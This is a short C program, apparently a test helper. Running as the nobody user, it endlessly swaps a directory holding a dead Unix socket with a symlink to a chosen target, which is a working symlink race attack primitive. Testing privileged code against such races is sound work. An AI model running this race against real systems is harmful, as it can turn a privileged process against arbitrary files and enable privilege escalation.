/* As nobody, in FOLDER: exchanges `dir`, a folder with the file of a dead socket NAME, and `link`, which leads to
 * TARGET, for each other until it is ended. A socket file that was removed is made again. */
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static void leave_dead_socket(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    bind(fd, (struct sockaddr *)&address, sizeof address);
    close(fd);
}

int main(int count, char **arguments) {
    struct stat status;
    char path[100];
    if (count < 4 || setgid(65534) != 0 || setuid(65534) != 0 || chdir(arguments[1]) != 0)
        return 1;
    if (mkdir("dir", 0755) != 0 || symlink(arguments[2], "link") != 0)
        return 2;
    puts("swapping");
    fflush(stdout);
    for (;;) {
        renameat2(AT_FDCWD, "dir", AT_FDCWD, "link", RENAME_EXCHANGE);
        bool is_folder = lstat("dir", &status) == 0 && S_ISDIR(status.st_mode);
        snprintf(path, sizeof path, "%s/%s", is_folder ? "dir" : "link", arguments[3]);
        if (lstat(path, &status) != 0)
            leave_dead_socket(path);
    }
}
